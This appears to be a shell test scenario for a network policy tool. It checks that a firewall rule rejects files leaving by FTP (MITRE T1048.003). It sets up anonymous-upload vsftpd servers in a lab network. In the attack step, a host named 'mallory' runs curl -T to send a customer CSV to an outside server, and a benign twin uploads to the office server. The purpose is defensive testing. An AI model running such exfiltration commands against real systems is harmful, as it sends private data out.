# SPDX-License-Identifier: Apache-2.0
# Files out by clear text: FTP to a server outside, on its port and on another. The twin uploads to the office's own server.
technique=T1048.003 what="files out by FTP" rule=ftp-leaves
policy() { cat <<END
weir: 1
$(zones)
rules:
  - name: ftp-leaves
    technique: [T1048.003]
    match: { from: inside, to: outside, app.protocol: ftp }
    action: reject
END
}
ftp_server() { # HOST ADDRESS PORT
  cat >"$in/srv/vsftpd-$1-$3.conf" <<END
listen=YES
listen_address=$2
listen_port=$3
background=NO
anonymous_enable=YES
anon_root=/srv/ftp
anon_upload_enable=YES
anon_umask=022
write_enable=YES
seccomp_sandbox=NO
secure_chroot_dir=/srv/empty
END
  serve "$1" vsftpd "/srv/vsftpd-$1-$3.conf"
}
servers() {
  mkdir -p "$in/srv/ftp/in" "$in/srv/empty"
  chmod 555 "$in/srv/ftp"; chmod 777 "$in/srv/ftp/in"
  printf 'one,two,three\n%.0s' {1..60} >"$in/srv/customers.csv"
  ftp_server world 10.77.0.200 21; ftp_server world 10.77.0.200 2121; ftp_server office 10.77.0.53 21
}
upload() { at mallory curl -sS --max-time 8 -T /srv/customers.csv "ftp://$1/in/$RANDOM.csv"; }
attack() { upload 10.77.0.200 || upload 10.77.0.200:2121; }
twin() { upload 10.77.0.53; }
